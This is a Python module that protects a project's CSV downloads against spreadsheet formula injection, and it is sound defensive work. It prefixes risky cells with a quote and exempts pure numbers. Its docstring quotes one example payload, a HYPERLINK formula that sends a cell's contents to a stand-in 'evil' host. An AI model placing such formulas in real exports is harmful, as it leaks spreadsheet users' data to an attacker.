"""Spreadsheet formula injection (CSV injection) kept out of every CSV the project writes.

Excel and LibreOffice run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after
a tab or a carriage return, whatever follows) as a formula: a submitted value such as
``=HYPERLINK("http://evil/?"&A1,"详情")`` would become a live link in a downloaded file.
OWASP's rule is applied to every cell of every CSV download (REST downloads and the open-data
portal's files): a cell starting with one of ``= + - @``, tab or carriage return gets a
leading single quote ``'``, which spreadsheets show as text.

Pure numbers are exempt (OWASP allows it; a number is never a formula): ``-12.5``, ``+3``
and ``-1e5`` stay as they are, while ``-1+2`` or ``-cmd`` get the quote. The quote is part
of the cell, so a program reading the CSV sees ``'=…``; the NDJSON files and the API carry
the value unchanged.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet cell a formula."""
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(cell: str) -> str:
    """``cell``, with a leading ``'`` if a spreadsheet would run it as a formula."""
    if cell.startswith(TRIGGERS) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def neutralise_row(cells: Iterable[Any]) -> list[Any]:
    """A CSV row with every text cell neutralised (other values are left to the writer)."""
    return [neutralise(c) if isinstance(c, str) else c for c in cells]


class SafeWriter:
    """A ``csv.writer`` whose rows are neutralised (same ``writerow``/``writerows``)."""

    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(neutralise_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        self._writer.writerows(neutralise_row(r) for r in rows)
